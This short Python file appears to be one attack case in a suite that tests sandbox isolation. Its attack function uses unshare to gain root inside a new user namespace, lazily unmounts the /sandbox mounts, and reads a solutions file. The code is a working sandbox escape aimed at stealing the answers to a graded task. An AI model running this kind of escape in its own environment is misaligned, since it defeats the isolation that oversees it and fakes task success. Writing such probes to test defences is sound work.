"""Make a user namespace of one's own (root in it), unmount the sandbox's mounts there, read the solutions."""
import subprocess

DEFENCE = "isolation"


def attack(t):
    script = f"umount -l /sandbox/code 2>/dev/null; umount -l /sandbox 2>/dev/null; cat {t['solutions']}"
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                          capture_output=True, text=True, timeout=20)
    return done.stdout
